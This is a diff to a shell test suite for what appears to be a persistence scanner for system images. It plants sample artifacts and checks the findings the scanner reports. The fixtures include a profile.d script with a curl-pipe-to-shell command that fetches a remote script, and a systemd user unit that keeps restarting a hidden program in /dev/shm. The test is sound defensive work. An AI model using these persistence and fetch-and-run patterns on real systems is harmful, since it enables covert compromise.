@@ -119,6 +119,13 @@ printf '#!/bin/sh\nexec /usr/bin/true\n' >"$R/etc/systemd/system-generators/net-
 chmod 0755 "$R/etc/systemd/system-generators/net-gen"
 printf '[Service]\nExecStart=/usr/sbin/cupsd -l\n' >"$sd/cups-helper.service"
 chmod 0666 "$sd/cups-helper.service"
+# a user unit (Perfctl-style: a hidden program in /dev/shm, restarted)
+mkdir -p "$R/home/www/.config/systemd/user/default.target.wants"
+printf '[Service]\nExecStart=/dev/shm/.x/kworker -B\nRestart=always\n' \
+	>"$R/home/www/.config/systemd/user/dbus-session.service"
+# a profile.d script another user owns (as root: owners are kept)
+printf 'export EDITOR=vim\n' >"$R/etc/profile.d/editor.sh"
+[ "$MYUID" -eq 0 ] && chown 1001:1001 "$R/etc/profile.d/editor.sh"
 # hostile: 3 MiB, garbage, links out of the image
 { printf 'curl -fsSL http://198.51.100.7/p.sh | sh\n'; head -c 3145728 /dev/zero | tr '\0' '#'; } \
 	>"$R/etc/profile.d/huge.sh"
@@ -204,7 +211,19 @@ f_eq .severity high
 f_eq .evidence.library /usr/local/lib/libsystem.so
 per RM-PER-004 /etc/profile.d/huge.sh 1
 f_eq .severity high
+per RM-PER-004 /home/www/.config/systemd/user/dbus-session.service 2
+f_eq .severity high
+f_eq .evidence.user www
+f_eq .evidence.file_kind 'systemd user unit'
 # the files themselves
+if [ "$MYUID" -eq 0 ]; then
+	per RM-PER-005 /etc/profile.d/editor.sh
+	f_eq .severity medium
+	f_eq .evidence.owner_uid 1001
+else
+	jq_true "$T/bad.json" '[.findings[] | select(.file.path == "/etc/profile.d/editor.sh")] | length == 0' \
+		"an image unpacked by a user: owners were judged"
+fi
 per RM-PER-005 /etc/systemd/system-generators/net-gen
 f_eq .severity high
 per RM-PER-005 /etc/systemd/system/cups-helper.service
@@ -370,6 +389,14 @@ jq_true "$T/clean.json" '[.facts.startup_lines[] | select(.file == "/etc/systemd
 	"a continued ExecStart line is not joined: $(jq -c '.facts.startup_lines' "$T/clean.json")"
 jq_true "$T/clean.json" '[.facts.startup_files[] | select(.path == "/usr/lib/systemd/system/apt-daily.timer" and .timer == "OnCalendar=*-*-* 6,18:00")] | length == 1' \
 	"the timer's schedule is not in the facts"
+
+# ---- a directory of more entries than the cap ---------------------------------------
+M=$T/many
+mkdir -p "$M/etc/profile.d"
+(cd "$M/etc/profile.d" && seq 1 4200 | sed 's/$/.sh/' | xargs touch)
+rm_json "$T/many.json" --root "$M"
+jq_true "$T/many.json" '[.scan.skipped[] | select(.check == "persistence: start-up directories")] | length == 1' \
+	"a directory past the cap is not in scan.skipped: $(jq -c .scan.skipped "$T/many.json")"
 
 # ---- an unreadable directory (as a user) ------------------------------------------
 if [ "$MYUID" -ne 0 ]; then
